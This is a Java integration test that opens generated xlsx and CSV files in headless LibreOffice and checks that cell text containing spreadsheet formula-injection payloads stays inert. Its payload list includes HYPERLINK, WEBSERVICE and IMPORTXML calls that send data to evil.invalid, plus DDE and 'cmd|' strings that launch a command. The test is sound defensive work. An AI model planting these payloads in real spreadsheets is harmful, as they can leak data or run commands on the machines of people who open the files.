package vn.chuongvang.sheets;

import static org.assertj.core.api.Assertions.assertThat;

import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

import vn.chuongvang.testing.Missing;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import javax.xml.parsers.DocumentBuilderFactory;

/** What LibreOffice makes of our files: S13 of the reliability paper. */
@Timeout(180)
class SpreadsheetIT {

    private static final String TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0";
    private static final String OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0";

    /** Semicolons, quotes, UTF-8, from line 1; quoted fields may be numbers, formulas are run. */
    private static final String CSV = "CSV:59,34,76,1,,0,false,true,false,false,false,0,true";

    private static final List<String> BEFORE =
            List.of(
                    "", " ", "\t", "\r", "\n", "'", "\"", "\";", ";", ",", "\uFEFF", "\u200B",
                    "\u00A0");

    private static final List<String> RUN =
            List.of(
                    "=1+1",
                    "+1+1",
                    "-1+1",
                    "@SUM(1;2)",
                    "=SUM(A1:A9)",
                    "=HYPERLINK(\"http://evil.invalid/?\"&A1;\"mở\")",
                    "=WEBSERVICE(\"http://evil.invalid/\")",
                    "=DDE(\"cmd\";\"/C calc\";\"x\")",
                    "=cmd|' /C calc'!A0",
                    "=IMPORTXML(\"http://evil.invalid\";\"//a\")",
                    "{=1+1}",
                    "\uFF1D1+1",
                    "=1+1\";\"=2+2",
                    "of:=1+1");

    private static final List<String> TEXTS =
            Stream.concat(
                            BEFORE.stream().flatMap(one -> RUN.stream().map(one::concat)),
                            Stream.of(
                                    "7/12",
                                    "1-2",
                                    "01/07/2025",
                                    "0123",
                                    "1E5",
                                    "TRUE",
                                    "Nguyễn Văn A"))
                    .toList();

    /** Of those a text file says no more than what they look like, and nothing runs. */
    private static final Set<String> NUMBERS = Set.of("0123", "1E5", "TRUE");

    @TempDir Path folder;

    @Test
    void no_text_of_a_workbook_is_run() throws Exception {
        var rows =
                TEXTS.stream()
                        .map(text -> List.<Book.Value>of(new Book.Value.Words(text)))
                        .toList();
        var sheet = opened("book.xlsx", Book.write(List.of(leaf(rows))), null);
        assertThat(formulas(sheet)).isEmpty();
        assertThat(cells(sheet)).hasSize(TEXTS.size()).allMatch(SpreadsheetIT::isText);
    }

    @Test
    void no_text_of_a_text_file_is_run_or_becomes_two() throws Exception {
        var lines = new StringBuilder(CsvBook.BYTE_ORDER_MARK);
        TEXTS.forEach(text -> lines.append(line(text)));
        var sheet = opened("list.csv", lines.toString().getBytes(StandardCharsets.UTF_8), CSV);
        assertThat(formulas(sheet)).isEmpty();
        var rows = rows(sheet);
        assertThat(rows).hasSize(TEXTS.size());
        for (var n = 0; n < rows.size(); n++) {
            var cells = cells(rows.get(n));
            assertThat(cells).as(TEXTS.get(n)).hasSize(2);
            assertThat(cells.getLast().getTextContent().strip()).isEqualTo("kề bên");
            assertThat(isText(cells.getFirst()) || NUMBERS.contains(TEXTS.get(n)))
                    .as(TEXTS.get(n))
                    .isTrue();
        }
    }

    /** Else the two above would prove nothing. */
    @Test
    void what_is_written_carelessly_is_run() throws Exception {
        var sheet =
                opened("careless.csv", "\"=1+1\";=2+2\r\n".getBytes(StandardCharsets.UTF_8), CSV);
        assertThat(formulas(sheet)).hasSize(2);
        var book = Xlsx.of(one -> IntStream.range(0, 3).forEach(row -> one.formula(row, 0, "1+1")));
        assertThat(formulas(opened("careless.xlsx", book, null))).hasSize(3);
    }

    private static String line(String text) {
        return CsvBook.line(
                CsvBook.SEMICOLON,
                List.of(new Book.Value.Words(text), new Book.Value.Words("kề bên")));
    }

    private static Book.Leaf leaf(List<List<Book.Value>> rows) {
        return new Book.Leaf("Danh sách", -1, List.of(20), rows);
    }

    private static boolean isText(Element cell) {
        return cell.getAttributeNS(OFFICE, "value-type").equals("string");
    }

    private static List<Element> formulas(Document sheet) {
        return cells(sheet).stream().filter(cell -> cell.hasAttributeNS(TABLE, "formula")).toList();
    }

    /** Those with something in a cell. */
    private static List<Element> rows(Document sheet) {
        return elements(sheet.getDocumentElement(), "table-row").stream()
                .filter(row -> !cells(row).isEmpty())
                .toList();
    }

    private static List<Element> cells(Document sheet) {
        return cells(sheet.getDocumentElement());
    }

    /** Those that hold something. */
    private static List<Element> cells(Element within) {
        return elements(within, "table-cell").stream()
                .filter(cell -> cell.hasAttributeNS(OFFICE, "value-type"))
                .toList();
    }

    private static List<Element> elements(Element within, String name) {
        var all = within.getElementsByTagNameNS(TABLE, name);
        return IntStream.range(0, all.getLength()).mapToObj(n -> (Element) all.item(n)).toList();
    }

    /** As LibreOffice shows it. */
    private Document opened(String name, byte[] file, @Nullable String how) throws Exception {
        Files.write(folder.resolve(name), file);
        var out = folder.resolve("out");
        var profile = folder.resolve("profile").toUri();
        var command =
                Stream.of(
                                Stream.of(
                                        office(),
                                        "-env:UserInstallation=" + profile,
                                        "--headless",
                                        "--convert-to",
                                        "fods",
                                        "--outdir",
                                        out.toString()),
                                how == null ? Stream.<String>of() : Stream.of("--infilter=" + how),
                                Stream.of(folder.resolve(name).toString()))
                        .flatMap(part -> part)
                        .toList();
        var run =
                new ProcessBuilder(command)
                        .redirectErrorStream(true)
                        .redirectOutput(folder.resolve("log").toFile())
                        .start();
        try {
            assertThat(run.waitFor(120, TimeUnit.SECONDS)).isTrue();
        } finally {
            run.descendants().forEach(ProcessHandle::destroyForcibly);
            run.destroyForcibly();
        }
        var shown = out.resolve(name.replaceAll("\\..*", ".fods"));
        assertThat(shown).as(Files.readString(folder.resolve("log"))).exists();
        var factory = DocumentBuilderFactory.newInstance();
        factory.setNamespaceAware(true);
        return factory.newDocumentBuilder().parse(shown.toFile());
    }

    private static String office() throws IOException {
        for (var place : System.getenv("PATH").split(":")) {
            var program = Path.of(place, "soffice");
            if (Files.isExecutable(program)) {
                return program.toString();
            }
        }
        return Missing.here(
                "NO LIBREOFFICE: no spreadsheet opens our files; install libreoffice-calc-nogui");
    }
}
